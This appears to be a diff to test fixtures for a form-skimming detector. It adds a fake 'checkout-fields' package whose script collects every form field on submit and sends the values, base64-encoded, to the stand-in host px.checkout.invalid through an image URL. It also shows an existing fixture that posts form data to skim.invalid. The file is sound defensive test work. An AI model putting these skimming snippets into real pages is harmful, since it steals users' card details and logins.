@@ -4,6 +4,16 @@ import { skimsForms } from './skims-forms.ts';
 examine(skimsForms, {
   speaks: [
     {
+      when: 'all fields are gone through and sent in the address of a picture',
+      files: {
+        'package.json': { name: 'checkout-fields', version: '1.0.0', main: 'index.js' },
+        'index.js': `var m = require('./m'); m.attach()`,
+        'm.js': `function all(root) { var out = []; root.querySelectorAll('input,select').forEach(function (e) { out.push(e.name + '=' + e.value) }); return out.join('&') } exports.attach = function () { document.addEventListener('submit', function () { var i = new Image(); i.src = '//px.checkout.invalid/i.gif?' + btoa(all(document)) }) }`,
+      },
+      weight: 'strong',
+      says: ['px.checkout.invalid'],
+    },
+    {
       when: 'a form is sent elsewhere',
       files: {
         'index.js': `document.addEventListener('submit', e => fetch('https://skim.invalid/', { method: 'POST', body: new FormData(e.target) }))`,
@@ -45,6 +55,12 @@ examine(skimsForms, {
     },
   ],
   silent: [
+    {
+      when: 'all fields are looked at and only counted',
+      files: {
+        'index.js': `fetch('https://stats.invalid/', { method: 'POST', body: String(document.querySelectorAll('a[href]').length) })`,
+      },
+    },
     {
       when: 'the caller says where to',
       files: { 'index.js': `exports.send = (url, form) => fetch(url, { method: 'POST', body: new FormData(form) })` },
